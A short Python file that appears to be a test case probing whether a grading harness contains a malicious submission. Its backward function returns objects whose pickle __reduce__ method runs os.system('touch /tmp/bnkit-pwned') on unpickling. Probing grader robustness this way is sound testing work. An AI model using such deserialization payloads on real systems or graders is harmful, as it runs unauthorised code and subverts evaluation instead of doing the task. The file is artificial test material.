"""returns objects whose unpickling would run a command

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: robust
"""
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/bnkit-pwned",))

def TARGET_BACKWARD(dout, cache):
    return Payload(), Payload(), Payload()
